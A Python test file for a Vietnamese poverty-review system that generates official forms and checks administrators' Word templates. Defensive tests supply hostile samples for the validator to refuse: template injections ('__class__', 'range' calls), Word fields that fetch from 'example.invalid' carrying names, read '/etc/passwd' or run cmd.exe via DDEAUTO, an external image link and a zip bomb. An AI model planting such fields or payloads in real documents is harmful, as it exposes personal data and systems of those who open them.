"""Documents on paper and in Word: every form, blank and filled, and what an administrator's template may hold."""

import io
import re
import zipfile
from dataclasses import replace
from datetime import date

import docx
import pypdfium2
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from giamngheo.law.document_forms import DocumentForm, document_forms, fields_of
from giamngheo.platform.documents import Paper, UnknownValue, paper_pdf, shipped_template, specimen
from giamngheo.platform.documents.filling import number_line, office_day, provisional_words, rows_of, words_of
from giamngheo.platform.documents.word import TemplateRefused, check_template, paper_docx

FORMS = document_forms()
CERTIFICATE = FORMS["certificate"]


def pages_of(pdf: bytes) -> int:
    return len(re.findall(rb"/Type\s*/Page\b", pdf))


def words_in(content: bytes) -> str:
    """All words of a Word file, of its tables, header and footer too."""
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        parts = [
            name for name in packed.namelist() if re.match(r"word/(document|header|footer)\d*\.xml", name)
        ]
        xml = "\n".join(packed.read(name).decode() for name in parts)
    return re.sub(r"<[^>]+>", "", xml.replace("</w:p>", "\n"))


def changed(template: bytes, old: str, new: str) -> bytes:
    """A template with some of its words changed, as an administrator does in Word."""
    document = docx.Document(io.BytesIO(template))
    cells = [cell for table in document.tables for row in table.rows for cell in row.cells]
    paragraphs = [*document.paragraphs, *(one for cell in cells for one in cell.paragraphs)]
    runs = [run for paragraph in paragraphs for run in paragraph.runs if old in run.text]
    assert runs
    for run in runs:
        run.text = run.text.replace(old, new)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_the_forms_of_the_review_are_there() -> None:
    assert set(FORMS) == {
        "application", "certificate", "complaint", "complaint_answer", "confirmation", "decision", "decision_change",
        "escape_application", "meeting_agenda", "meeting_minutes", "posting_sheet", "receipt", "refusal",
        "status_decision", "status_posting",
    }  # fmt: skip
    assert {form.number.vi for form in FORMS.values() if form.number} == {
        "Mẫu số 01", "Mẫu số 02", "Mẫu số 03", "Mẫu số 04", "Phụ lục V",
    }  # fmt: skip


@pytest.mark.long
@pytest.mark.parametrize("name", sorted(FORMS))
def test_every_form_is_set_blank_and_filled_and_its_template_is_sound(name: str) -> None:
    form = FORMS[name]
    assert pages_of(paper_pdf([Paper(form)])) >= 1
    # the sheet with one household on each of its lists takes a second page
    more = any(block.signatures for block in form.body) or name == "posting_sheet"
    assert pages_of(paper_pdf([specimen(form)])) == 1 + more
    check_template(form, shipped_template(form))
    said = words_in(paper_docx(specimen(form)))
    for key, field in fields_of(form).values.items():
        if key not in {"date", "superior", "unit", "village"} and f"{{{key}}}" in "".join(form.words()):
            assert field.sample in said, key
    assert "{{" not in said
    assert "{%" not in said


def test_a_layout_that_no_annex_backs_says_so_on_the_paper() -> None:
    assert CERTIFICATE.provisional
    words = provisional_words(CERTIFICATE)
    cited = "Quyết định 24/2021/QĐ-TTg, Phụ lục, Mẫu số 03"
    assert words == f"Mẫu tạm, chưa đối chiếu văn bản gốc: {cited}."
    assert words in words_in(paper_docx(specimen(CERTIFICATE)))


def test_no_paper_speaks_of_memory_and_all_say_it_alike() -> None:
    said = [provisional_words(form) for form in document_forms().values()]
    assert all(words.startswith("Mẫu tạm, chưa đối chiếu văn bản gốc: ") for words in said if words)
    assert not [words for words in said if "nhớ" in words]
    assert any(said)


def test_a_blank_form_has_dots_and_rows_to_write_on() -> None:
    paper = Paper(CERTIFICATE)
    assert words_of(paper)["head_name"] == "." * 40
    assert len(rows_of(paper)["members"]) == 6
    assert number_line(paper) == "Số: ......./GCN-HN.HCN"


def test_days_are_written_as_the_decree_writes_them() -> None:
    assert office_day(date(2026, 2, 5)) == "ngày 05 tháng 02 năm 2026"
    assert office_day(date(2025, 12, 15)) == "ngày 15 tháng 12 năm 2025"
    assert office_day(date(2025, 3, 1)) == "ngày 01 tháng 3 năm 2025"


@pytest.mark.parametrize("name", ["decision", "decision_change", "status_decision"])
def test_a_decision_names_the_commune_of_its_chairman(name: str) -> None:
    paper = replace(
        specimen(FORMS[name]), values=specimen(FORMS[name]).values | {"unit": "Ủy ban nhân dân xã Thu Cúc"}
    )
    said = "CHỦ TỊCH ỦY BAN NHÂN DÂN XÃ THU CÚC"
    assert said in words_in(paper_docx(paper))
    with pypdfium2.PdfDocument(paper_pdf([paper])) as whole:
        assert said in whole[0].get_textpage().get_text_bounded()


@pytest.mark.parametrize("name", ["decision", "meeting_agenda", "meeting_minutes", "posting_sheet"])
def test_the_column_of_points_is_named_by_what_decides(name: str) -> None:
    """A paper of a year whose standard has no points says what stands there; an earlier one stays as it was."""
    paper = specimen(FORMS[name])
    plain = replace(paper, values={key: one for key, one in paper.values.items() if key != "income_label"})
    by_income = replace(paper, values={**paper.values, "income_label": "Thu nhập BQ"})
    for one, wanted, other in ((plain, "Điểm B1", "Thu nhập BQ"), (by_income, "Thu nhập BQ", "Điểm B1")):
        set_ = pypdfium2.PdfDocument(paper_pdf([one]))
        pdf = re.sub(r"\s+", " ", " ".join(page.get_textpage().get_text_range() for page in set_))
        for words in (pdf, words_in(paper_docx(one))):
            # the sample of a reason speaks of points too
            headings = words.replace("Điểm B1 125", "")
            assert wanted in headings
            assert other not in headings


def test_a_value_that_the_form_does_not_have_is_refused() -> None:
    with pytest.raises(UnknownValue, match="certificate has no colour"):
        Paper(CERTIFICATE, {"colour": "đỏ"})


def test_many_papers_are_one_file_and_a3_is_another_size() -> None:
    assert pages_of(paper_pdf([specimen(CERTIFICATE)] * 3)) == 3
    sheet = specimen(FORMS["posting_sheet"])
    large = paper_pdf([Paper(sheet.form, sheet.values, sheet.rows, size="a3")])
    assert re.search(rb"MediaBox\s*\[0 0 841\.\d+ 119\d", large)


def test_words_of_people_never_become_commands_of_the_template() -> None:
    said = words_in(paper_docx(Paper(CERTIFICATE, {"head_name": "{{ qr }} <w:b/> & {% for x in y %}"})))
    assert "{{ qr }} &lt;w:b/&gt; &amp; {% for x in y %}" in said


def test_an_administrators_template_is_used() -> None:
    own = changed(shipped_template(CERTIFICATE), "I. Thành viên trong hộ", "I. Các thành viên của hộ")
    check_template(CERTIFICATE, own)
    said = words_in(paper_docx(specimen(CERTIFICATE), own))
    assert "I. Các thành viên của hộ" in said
    assert "I. Thành viên trong hộ" not in said


@pytest.mark.long
@pytest.mark.parametrize(
    ("old", "new", "code", "named"),
    [
        ("{{ head_name }}", "{{ head_nane }}", "unknown_field", "head_nane"),
        ("{{ row.relation }}", "{{ row.relative }}", "unknown_field", "row.relative"),
        ("in members", "in persons", "unknown_field", "persons"),
        ("{{ head_name }}", "{{ head_name.__class__ }}", "unknown_field", "__class__"),
        ("{{ head_name }}", "{{ head_name | upper }}", "not_allowed", "filter"),
        ("{{ head_name }}", "{{ range(9) }}", "not_allowed", "call"),
        ("{{ head_name }}", "{{ head_name ", "broken", ""),
        ("{{ qr }}", "", "no_qr", "qr"),
    ],
)
def test_a_template_that_cannot_be_used_is_refused_by_name(old: str, new: str, code: str, named: str) -> None:
    with pytest.raises(TemplateRefused) as refused:
        check_template(CERTIFICATE, changed(shipped_template(CERTIFICATE), old, new))
    assert refused.value.code == code
    assert named in refused.value.message.vi


def with_paragraphs(form: DocumentForm, *lines: str, shipped: bool = True) -> bytes:
    """The template that ships, or an empty one, with these paragraphs at its end."""
    document = docx.Document(io.BytesIO(shipped_template(form))) if shipped else docx.Document()
    for line in lines:
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


DECISION = FORMS["decision"]
ROWS = "{% for row in escaped_near_poverty %}x{% else %}"


@pytest.mark.parametrize(
    ("said", "code", "named"),
    [
        (ROWS + "{{ secret }}{% endfor %}", "unknown_field", "secret"),
        (ROWS + "{{ range(99999) }}{% endfor %}", "not_allowed", "call"),
        (ROWS + "{{ row.name }}{% endfor %}", "unknown_field", "row.name"),
        ("{% if year %}x{% elif secret %}y{% endif %}", "unknown_field", "secret"),
        ("{% if year %}x{% else %}{{ secret }}{% endif %}", "unknown_field", "secret"),
        ("{% if secret and year %}x{% endif %}", "unknown_field", "secret"),
        ("{% for row in poor if row.secret %}x{% endfor %}", "unknown_field", "row.secret"),
        ("{% for row in poor if range(9) %}x{% endfor %}", "not_allowed", "call"),
    ],
)
def test_what_stands_in_a_branch_that_seldom_shows_is_read_too(said: str, code: str, named: str) -> None:
    with pytest.raises(TemplateRefused) as refused:
        check_template(DECISION, with_paragraphs(DECISION, said))
    assert refused.value.code == code
    assert named in refused.value.message.vi


@pytest.mark.long
@pytest.mark.parametrize(
    "said",
    [
        "{% if not unit %}{{ qr }}{% endif %}",
        "{% if unit %}{{ qr }}{% endif %}",
        "{% if unit %}x{% else %}{{ qr }}{% endif %}",
        "{% if qr %}x{% endif %}",
        "{% if qr %}x{% else %}{{ qr }}{% endif %}",
        "{% for row in members %}{{ qr }}{% endfor %}",
        "{% for row in members %}x{% else %}{{ qr }}{% endfor %}",
    ],
)
def test_a_code_that_some_papers_would_lack_is_refused(said: str) -> None:
    """Where nothing else hangs on it the code is on every paper, and who checks one finds it."""
    without = changed(shipped_template(CERTIFICATE), "{{ qr }}", said)
    with pytest.raises(TemplateRefused) as refused:
        check_template(CERTIFICATE, without)
    assert refused.value.code == "no_qr"


def test_a_code_in_the_properties_of_the_file_is_no_picture() -> None:
    document = docx.Document(io.BytesIO(changed(shipped_template(CERTIFICATE), "{{ qr }}", "")))
    document.core_properties.title = "{{ qr }}"
    out = io.BytesIO()
    document.save(out)
    with pytest.raises(TemplateRefused) as refused:
        check_template(CERTIFICATE, out.getvalue())
    assert refused.value.code == "no_qr"


def test_a_code_may_hang_on_itself() -> None:
    check_template(
        CERTIFICATE, changed(shipped_template(CERTIFICATE), "{{ qr }}", "{% if qr %}{{ qr }}{% endif %}")
    )


def lists(*names: str) -> list[str]:
    return [f"{{% for row in {name} %}}{{{{ row.name }}}}{{% endfor %}}" for name in names]


LISTS = ("poor", "near_poor", "escaped_poverty", "escaped_near_poverty")
WHOLE = ["{{ qr }}", "{{ number }}", "{{ place_and_date }}", "{{ effective_from }}", *lists(*LISTS)]


@pytest.mark.parametrize(
    ("lines", "named"),
    [
        (["{{ qr }}"], "number"),
        ([*WHOLE[:1], *WHOLE[2:]], "number"),
        ([*WHOLE[:2], *WHOLE[3:]], "date"),
        ([*WHOLE[:-2], WHOLE[-1]], "escaped_poverty.name"),
        ([*WHOLE[:-1], "{% for row in escaped_near_poverty %}x{% endfor %}"], "escaped_near_poverty.name"),
        ([*WHOLE[:-1], "{% if poor %}" + WHOLE[-1] + "{% endif %}"], "escaped_near_poverty.name"),
    ],
)
def test_a_decision_without_its_number_day_or_lists_is_refused_by_name(lines: list[str], named: str) -> None:
    with pytest.raises(TemplateRefused) as refused:
        check_template(DECISION, with_paragraphs(DECISION, *lines, shipped=False))
    assert refused.value.code == "missing_field"
    assert f"«{named}»" in refused.value.message.vi


def test_a_decision_in_a_layout_of_ones_own_is_taken() -> None:
    own = [
        *WHOLE[:2],
        "{{ date }}",
        *WHOLE[3:-1],
        "{% if escaped_near_poverty %}" + WHOLE[-1] + "{% endif %}",
    ]
    check_template(DECISION, with_paragraphs(DECISION, *own, shipped=False))


def test_a_kept_template_that_names_what_is_no_more_says_so_when_it_is_filled() -> None:
    kept = with_paragraphs(CERTIFICATE, "{{ gone }}")
    with pytest.raises(TemplateRefused, match="gone"):
        paper_docx(specimen(CERTIFICATE), kept)


def test_a_field_hidden_in_the_properties_of_the_file_is_found() -> None:
    document = docx.Document(io.BytesIO(shipped_template(CERTIFICATE)))
    document.core_properties.title = "{{ secret_field }}"
    out = io.BytesIO()
    document.save(out)
    with pytest.raises(TemplateRefused) as refused:
        check_template(CERTIFICATE, out.getvalue())
    assert "secret_field" in refused.value.message.vi


def with_field(said: str, *, simple: bool = False) -> bytes:
    """The template with one more field, as an administrator may put it in with Word."""
    document = docx.Document(io.BytesIO(shipped_template(CERTIFICATE)))
    paragraph = document.add_paragraph()
    if simple:
        field = OxmlElement("w:fldSimple")
        field.set(qn("w:instr"), said)
        paragraph._p.append(field)
    for part in () if simple else said.split("|"):
        told = OxmlElement("w:instrText")
        told.text = part
        paragraph.add_run()._r.append(told)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("said", "simple"),
    [
        ('INCLUDEPICTURE "https://example.invalid/{{ head_name }}"', False),
        ('INC|LUDE|TEXT "/etc/passwd"', False),
        ('LINK Excel.Sheet.8 "https://example.invalid/a.xls"', True),
        ("DDEAUTO c:\\windows\\system32\\cmd.exe", True),
    ],
)
def test_a_template_fetches_nothing_when_it_is_opened(said: str, simple: bool) -> None:
    """Who keeps templates sees no person: a field would carry the names of each paper to an address."""
    with pytest.raises(TemplateRefused) as refused:
        check_template(CERTIFICATE, with_field(said, simple=simple))
    assert refused.value.code == "reaches_out"


@pytest.mark.long
def test_page_numbers_and_dates_are_fields_that_stay() -> None:
    check_template(CERTIFICATE, with_field(" NUM|PAGES \\* MERGEFORMAT"))
    check_template(CERTIFICATE, with_field(' DATE \\@ "dd/MM/yyyy" ', simple=True))


def test_a_picture_from_elsewhere_is_refused() -> None:
    document = docx.Document(io.BytesIO(shipped_template(CERTIFICATE)))
    document.part.relate_to("https://example.invalid/a.png", RT.IMAGE, is_external=True)
    out = io.BytesIO()
    document.save(out)
    with pytest.raises(TemplateRefused) as refused:
        check_template(CERTIFICATE, out.getvalue())
    assert refused.value.code == "reaches_out"


def packed(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"%PDF-1.7",
        b"PK\x03\x04cut",
        packed(a=b"x"),
        shipped_template(CERTIFICATE)[:9000],
        packed(a=b"0" * 50_000_000),
    ],
    ids=["empty", "pdf", "cut zip", "zip", "cut docx", "bomb"],
)
def test_a_file_that_is_no_word_file_is_refused(content: bytes) -> None:
    with pytest.raises(TemplateRefused) as refused:
        check_template(CERTIFICATE, content)
    assert refused.value.code == "not_a_docx"


def test_a_form_with_an_unknown_field_is_a_fault_of_the_law() -> None:
    data = CERTIFICATE.model_dump()
    data["body"] = [{"p": "Hộ {nobody}"}]
    with pytest.raises(ValueError, match="unknown field: nobody"):
        DocumentForm.model_validate(data)
